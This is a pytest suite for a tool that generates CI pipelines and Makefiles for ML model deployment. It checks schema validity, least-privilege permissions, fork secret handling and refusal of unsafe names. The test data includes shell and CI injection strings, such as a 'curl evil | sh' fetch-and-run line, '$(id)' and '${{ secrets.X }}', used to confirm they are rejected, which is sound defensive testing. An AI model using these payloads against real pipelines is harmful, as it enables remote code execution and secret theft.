"""Pipelines for projects of every kind: YAML that GitHub and GitLab take, no name that could become a
command, and every variable said.
"""

from __future__ import annotations

import json
import re
import subprocess
from importlib.resources import files
from itertools import product
from pathlib import Path
from typing import Any

import msgspec
import pytest
from jsonschema import Draft7Validator
from jsonschema.validators import validator_for
from pipeline_runners import Github, git, read_yaml

from mlship.bundle.lock import Lock, LockedModel, LockedRuntime, LockedWheel, lock_text
from mlship.errors import ConfigError, MlshipError, UsageError
from mlship.ops.init_pipeline import add_pipeline

WHEEL = LockedWheel(name="numpy", version="2.4.6", file="numpy.whl", sha256="ab" * 32)
RUNTIME = LockedRuntime(
    mlship="0.1.0", ground_floor="sha256:" + "0" * 64, python="3.11", requirements=("numpy",), trim=1,
    platforms={"linux-amd64-cp311-gnu2.28": (WHEEL,)},
)  # fmt: skip
LOCK = Lock(
    runtime=RUNTIME,
    model=LockedModel(
        graph="sha256:" + "1" * 64,
        precision="FP32",
        opset=18,
        converter={"torch": "2.13.0+cpu", "onnx": "1.23.2"},
    ),
)
HEAD = '[project]\nname = {name}\n[model]\nsource = "model.joblib"\n'
PROD = '[targets.prod]\ntype = "ssh"\nhosts = ["h"]\n'
SIGNED = 'require = ["signature"]\n[trust]\nkeys = { release = "release.pub" }\n'
URLS = (
    "",
    "oci://ghcr.io/acme/models",
    "s3://acme-models/team",
    "azblob://acme/models",
    "ssh://m@h.example.org/srv",
)
SCHEMAS = {"github": "github-workflows.json", "gitlab": "gitlab-ci.json"}
WRITTEN = {"github": ".github/workflows/mlship.yml", "gitlab": ".gitlab-ci.yml"}


def write_project(
    folder: Path, toml: str = PROD, *, name: str = "churn", url: str = "", lock: Lock = LOCK
) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    registry = f'[registries.team]\nurl = "{url}"\n' if url else ""
    (folder / "mlship.toml").write_text(HEAD.format(name=json.dumps(name)) + toml + registry)
    (folder / "mlship.lock").write_bytes(lock_text(lock))
    return folder


@pytest.fixture(scope="module")
def schema_of() -> dict[str, Any]:
    """What GitHub and GitLab say of their files (as check-jsonschema carries it)."""
    vendored = files("check_jsonschema") / "builtin_schemas" / "vendor"
    read = {name: json.loads((vendored / file).read_text("utf-8")) for name, file in SCHEMAS.items()}
    found = {name: validator_for(schema, Draft7Validator)(schema) for name, schema in read.items()}
    assert not found["github"].is_valid(
        {"on": "push", "jobs": {"a": {"runs-on": "x", "steps": [{"rum": "id"}]}}}
    )
    assert not found["gitlab"].is_valid({"a": {"script": "id", "rules": [{"iff": "x"}]}})
    return found


def used(text: str, ci: str) -> set[str]:
    """The variables and secrets that are the vendor's to give."""
    if ci == "github":
        return set(re.findall(r"(?:vars|secrets)\.([A-Z_]+)", text))
    own = r"CI_[A-Z_]+|TAG|MLSHIP_CACHE|AWS_ID_TOKEN|AZURE_ID_TOKEN|[A-Z_]+_TOKEN_FILE"
    return {name for name in re.findall(r"\$\{?([A-Z_]+)", text) if not re.fullmatch(own, name)}


# Read by the vendors' own libraries, from the environment.
BY_LIBRARIES = {"AWS_ROLE_ARN", "AWS_REGION", "AZURE_CLIENT_ID", "AZURE_TENANT_ID", "MLSHIP_KEY_PASSPHRASE"}


@pytest.mark.parametrize(
    ("ci", "url", "signed", "beneath"),
    list(product(("github", "gitlab"), URLS, (False, True), (False, True))),
)
def test_a_pipeline_is_what_the_vendor_takes(
    ci: str, url: str, signed: bool, beneath: bool, tmp_path: Path, schema_of: dict[str, Any]
) -> None:
    git("init", "--quiet", cwd=tmp_path)
    root = write_project(tmp_path / "models/churn" if beneath else tmp_path, PROD + SIGNED * signed, url=url)
    made = add_pipeline(root, ci=ci)
    file = (root / next(name for name in made.files if name.endswith("yml"))).resolve()
    if ci == "github":
        inside = "mlship-churn.yml" if beneath else "mlship.yml"
        assert file == tmp_path / ".github" / "workflows" / inside
    text = file.read_text()
    assert "__" not in text
    assert "# [" not in text
    problems = [error.message for error in schema_of[ci].iter_errors(read_yaml(text))]
    assert not problems, problems
    named = {setting.name for setting in made.settings if setting.kind != "environment"}
    given = {"MLSHIP_REGISTRY"} if url else set()
    silent = BY_LIBRARIES if ci == "gitlab" else set()
    assert named - silent <= used(text, ci) <= named | given
    for name, word in (
        ("id-token" if ci == "github" else "id_tokens", url[:2] in ("s3", "az")),
        ("sign --key", signed),
    ):
        assert (name in text) == word, name


def test_a_workflow_has_no_more_rights_than_it_needs(tmp_path: Path) -> None:
    add_pipeline(write_project(tmp_path), ci="github")
    workflow = read_yaml((tmp_path / WRITTEN["github"]).read_text())
    assert workflow["permissions"] == {"contents": "read"}
    deploy = workflow["jobs"]["deploy"]
    assert deploy["environment"] == "prod"
    assert deploy["concurrency"] == {"group": "mlship-deploy-churn-prod", "cancel-in-progress": False}
    used_actions = [
        step["uses"] for job in workflow["jobs"].values() for step in job["steps"] if "uses" in step
    ]
    assert used_actions
    assert all(re.fullmatch(r"[a-z-]+/[a-z-]+@v\d+", action) for action in used_actions)


def test_nothing_that_others_write_is_put_into_a_script(tmp_path: Path) -> None:
    """Titles and branches of others reach a script through the environment only."""
    add_pipeline(write_project(tmp_path, PROD + SIGNED), ci="github")
    workflow = read_yaml((tmp_path / WRITTEN["github"]).read_text())
    scripts = [step["run"] for job in workflow["jobs"].values() for step in job["steps"] if "run" in step]
    assert len(scripts) >= 7
    assert not [script for script in scripts if "${{" in script]


@pytest.mark.parametrize("name", ["1.0", "1e3", "null", "on", "true", "123", "0x1f", "a.b_c-d", "default"])
@pytest.mark.parametrize("ci", ["github", "gitlab"])
def test_names_that_yaml_takes_for_something_else_stay_names(
    ci: str, name: str, tmp_path: Path, schema_of: dict[str, Any]
) -> None:
    toml = f'[targets."{name}"]\ntype = "local"\n'
    add_pipeline(write_project(tmp_path, toml, name=name), ci=ci)
    document = read_yaml((tmp_path / WRITTEN[ci]).read_text())
    assert not list(schema_of[ci].iter_errors(document))
    if ci == "github":
        assert document["jobs"]["deploy"]["environment"] == name
    else:
        assert document[f"{name}:deploy"]["environment"]["name"] == name
        assert f".{name}" in document


HOSTILE = (
    '"; curl evil | sh; "',
    "$(id)",
    "`id`",
    "${{ secrets.X }}",
    "a\\nrun: id",
    "a b",
    "'",
    "#",
    "$HOME",
    "../x",
    "-x",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_become_a_command_is_refused_and_nothing_is_written(text: str, tmp_path: Path) -> None:
    toml_text = text.replace('"', '\\"')
    places = {
        "url": write_project(tmp_path / "url", url=f"dir://{toml_text}"),
        "requirement": write_project(tmp_path / "r", PROD + f'[runtime]\nrequirements = ["{toml_text}"]\n'),
    }
    python = msgspec.structs.replace(RUNTIME, python=text)
    places["python"] = write_project(tmp_path / "python", lock=Lock(runtime=python, model=LOCK.model))
    converter = msgspec.structs.replace(LOCK.model, converter={"onnx": text})
    places["version"] = write_project(tmp_path / "version", lock=Lock(runtime=RUNTIME, model=converter))
    if text in ("../x", "-x"):  # a folder beside, or of that name
        del places["url"]
    for kind, root in places.items():
        before = sorted(root.rglob("*"))
        with pytest.raises(UsageError, match="cannot stand in a pipeline"):
            add_pipeline(root, ci="github", make=True)
        assert sorted(root.rglob("*")) == before, kind


@pytest.mark.parametrize("folder", ["$(id)", "a b", 'say "hi"', "x\ny", "${{ x }}", "-x"])
def test_a_folder_that_could_become_a_command_is_refused(folder: str, tmp_path: Path) -> None:
    git("init", "--quiet", cwd=tmp_path)
    with pytest.raises(UsageError, match="the folder of the project cannot stand in a pipeline"):
        add_pipeline(write_project(tmp_path / folder), ci="github")
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize(
    "name", ["a b.csv", "$(shell id).csv", "a#b", "a:b", "%.csv", "-f", "a\nb", "../rows.csv", "~x"]
)
def test_a_file_that_make_reads_as_something_else_is_refused(name: str, tmp_path: Path) -> None:
    root = write_project(tmp_path, PROD + f"[golden]\nfrom = {json.dumps(name)}\n")
    with pytest.raises(UsageError, match="the file cannot stand in a pipeline"):
        add_pipeline(root, make=True)
    assert not (tmp_path / "Makefile").exists()
    add_pipeline(root, ci="gitlab")  # which does not name it


def test_what_is_installed_is_what_made_the_lock(tmp_path: Path) -> None:
    toml = PROD + SIGNED + '[runtime]\nrequirements = ["numpy", "scipy>=1.11"]\n'
    add_pipeline(write_project(tmp_path, toml, url="s3://bucket"), ci="github")
    head, own, *packages = (tmp_path / "requirements-ci.txt").read_text().splitlines()
    assert head.startswith("#")
    assert re.fullmatch(r"mlship-toolchain\[aws,build,sign,ssh\]==[0-9.]+", own)
    assert packages == ["scipy>=1.11", "numpy==2.4.6", "onnx==1.23.2", "torch==2.13.0"]


def test_a_model_that_stays_a_pickle_is_built_and_verified_as_one(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    toml = (root / "mlship.toml").read_text().replace("[model]", '[model]\nengine = "python"')
    (root / "mlship.toml").write_text(toml)
    add_pipeline(root, ci="gitlab")
    script = read_yaml((root / ".gitlab-ci.yml").read_text())["churn:bundle"]["script"]
    assert script[:2] == ["mlship build --locked --allow-pickle", "mlship verify"]


def test_make_pushes_to_the_registry_of_the_project(tmp_path: Path) -> None:
    add_pipeline(write_project(tmp_path, url="oci://ghcr.io/acme"), make=True)
    assert "\nexport MLSHIP_REGISTRY ?= oci://ghcr.io/acme\n" in (tmp_path / "Makefile").read_text()


def test_nothing_is_overwritten_unless_asked(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    (root / "Makefile").write_text("mine:\n")
    with pytest.raises(UsageError, match=r"Makefile is already in .*Nothing was written; add --force"):
        add_pipeline(root, ci="github", make=True)
    assert sorted(path.name for path in root.iterdir()) == ["Makefile", "mlship.lock", "mlship.toml"]
    made = add_pipeline(root, ci="github", make=True, replace=True)
    assert set(made.files) == {"Makefile", ".github/workflows/mlship.yml", "requirements-ci.txt"}
    assert "mlship build --locked" in (root / "Makefile").read_text()
    again = add_pipeline(root, ci="github")
    assert (again.files, len(again.same)) == ((), 2)


def test_links_and_files_in_the_way_are_never_followed(tmp_path: Path) -> None:
    root = write_project(tmp_path / "p")
    (tmp_path / "outside").write_text("mine")
    (root / "Makefile").symlink_to(tmp_path / "outside")
    for replace in (False, True):
        with pytest.raises(UsageError, match="Makefile is already in"):
            add_pipeline(root, make=True, replace=replace)
    assert (tmp_path / "outside").read_text() == "mine"
    (root / ".github").write_text("a file")
    with pytest.raises(UsageError, match=r"\.github is not a folder"):
        add_pipeline(root, ci="github", replace=True)
    assert not (root / "requirements-ci.txt").exists()


def test_what_must_be_there_before(tmp_path: Path) -> None:
    cases: list[tuple[type[MlshipError], str, dict[str, Any]]] = [
        (ConfigError, "there is no mlship.toml", {"folder": tmp_path / "empty", "ci": "github"}),
        (UsageError, "no pipeline 'jenkins'. There are github, gitlab", {"ci": "jenkins"}),
        (UsageError, "no target 'nope'. Targets here: local, prod, stage", {"make": True, "target": "nope"}),
        (UsageError, "prod/churn is a service", {"ci": "github", "target": "prod/churn"}),
        (UsageError, "which target. Name one of: prod, stage", {"ci": "github"}),
    ]
    root = write_project(tmp_path / "p", PROD + '[targets.stage]\ntype = "local"\n')
    for kind, words, given in cases:
        with pytest.raises(kind, match=words.replace("?", r"\?").replace("target. N", r"target\?\. N")):
            add_pipeline(given.pop("folder", root), **given)
    (root / "mlship.lock").unlink()
    with pytest.raises(ConfigError, match=r"no mlship\.lock in .* Run mlship build first"):
        add_pipeline(root, ci="github", target="prod")
    own = write_project(tmp_path / "own").joinpath("mlship.toml")
    own.write_text(own.read_text().replace("[model]", 'python = ".venv/bin/python"\n[model]'))
    with pytest.raises(ConfigError, match="which a pipeline has not"):
        add_pipeline(own.parent, ci="github")
    assert add_pipeline(own.parent, make=True).files == ("Makefile",)


def test_what_will_not_work_as_it_is_is_said(tmp_path: Path) -> None:
    git("init", "--quiet", cwd=tmp_path)
    root = write_project(tmp_path / "models", '[targets.here]\ntype = "local"\n')
    toml = (root / "mlship.toml").read_text().replace("model.joblib", "../model.joblib")
    (root / "mlship.toml").write_text(toml)
    notes = " ".join(add_pipeline(root, ci="gitlab").notes)
    assert "../model.joblib is outside of the project" in notes
    assert "here is the machine that runs the pipeline" in notes
    assert "include models/.gitlab-ci.yml there" in notes
    alone = write_project(tmp_path.parent / f"{tmp_path.name}-alone")
    assert any("git init" in note for note in add_pipeline(alone, ci="github").notes)


def test_a_fork_gets_no_secret(tmp_path: Path) -> None:
    """Of a stranger's request nothing is run that needs one."""
    add_pipeline(write_project(tmp_path, PROD + SIGNED), ci="github")
    workflow = read_yaml((tmp_path / WRITTEN["github"]).read_text())
    from pipeline_runners import said

    fork = {
        "event_name": "pull_request",
        "event": {"number": 8, "pull_request": {"head": {"repo": {"fork": True}}}},
    }
    known = {"github": fork, "vars": {"REGISTRY_USER": "u"}}
    run = [step for step in workflow["jobs"]["bundle"]["steps"] if said(step.get("if", "true"), known)]
    assert [step["name"] for step in run if "run" in step] == ["Install", "Build", "Verify"]
    assert "secrets." not in json.dumps(run)
    assert not said(workflow["jobs"]["deploy"]["if"], known)


# A mlship that writes down how it was called, and fails where it is told to.
DOUBLE = """#!/bin/sh
echo "$*" >> "$LOG"
case "$*" in "$FAILS"*) exit 6 ;; esac
[ "$1" != plan ] || echo a plan > "$4"
"""


class Make:
    """Runs the Makefile of a project with a mlship that only writes down how it was called."""

    def __init__(self, root: Path) -> None:
        self.root, self.log = root, root / "log"
        (root / "bin").mkdir()
        (root / "bin" / "mlship").write_text(DOUBLE)
        (root / "bin" / "mlship").chmod(0o755)

    def __call__(self, *words: str, fails: str = "nothing") -> tuple[int, list[str]]:
        self.log.write_text("")
        environment = {"PATH": f"{self.root}/bin:/usr/bin:/bin", "LOG": str(self.log), "FAILS": fails}
        done = subprocess.run(
            ["make", *words], cwd=self.root, env=environment, capture_output=True, text=True
        )
        return done.returncode, self.log.read_text().splitlines()


@pytest.fixture
def make(tmp_path: Path) -> Make:
    root = write_project(
        tmp_path / "p", PROD + '[golden]\nfrom = "rows.csv"\n[reduction]\nstep = "step:reduce"\n'
    )
    for name in ("model.joblib", "rows.csv", "step.py"):
        (root / name).write_text("")
    add_pipeline(root, make=True)
    return Make(root)


BEFORE = ["build --locked", "verify --scan", "push"]
PLAN = "plan prod --out .mlship/make/prod.plan"
DEPLOY = "deploy --plan .mlship/make/prod.plan"


def test_make_does_what_is_to_be_done_once_and_in_order(make: Make) -> None:
    assert make("-j8", "deploy", "plan", "push", "verify", "bundle") == (0, [*BEFORE, PLAN, DEPLOY])
    assert make("bundle", "verify", "push") == (0, [])
    assert make("plan") == (0, [PLAN])
    assert make() == (0, [PLAN])  # a plan is looked at anew
    assert make("deploy") == (0, [DEPLOY])  # and one that was read is what is deployed
    assert make("-j4", "deploy") == (0, [PLAN, DEPLOY])
    (make.root / "step.py").touch()
    assert make("push") == (0, BEFORE)


def test_make_stops_where_something_fails_and_goes_on_there(make: Make) -> None:
    assert make("-j4", "deploy", fails="verify") == (2, BEFORE[:2])
    assert make("-j4", "deploy", fails="plan") == (2, [*BEFORE[1:], PLAN])
    assert make("plan") == (0, [PLAN])
    assert make("deploy", fails="deploy") == (2, [DEPLOY])
    assert make("deploy") == (0, [PLAN, DEPLOY])  # a plan that was refused is not tried again
    assert make("plan", "TARGET=stage/other") == (0, ["plan stage/other --out .mlship/make/stage-other.plan"])


def test_make_signs_where_the_target_asks_for_it(tmp_path: Path) -> None:
    root = write_project(tmp_path / "p", PROD + SIGNED)
    (root / "model.joblib").write_text("")
    add_pipeline(root, make=True)
    assert Make(root)("deploy", "KEY=k.pem") == (
        0,
        [*BEFORE[:2], "sign --key k.pem", BEFORE[2], PLAN, DEPLOY],
    )


def test_a_runner_knows_what_it_is_asked(tmp_path: Path) -> None:
    """The double of a runner is no yes-man."""
    with pytest.raises(AssertionError, match="is not known here"):
        Github(tmp_path, tmp_path).used({"uses": "evil/action@v1"}, {}, tmp_path)
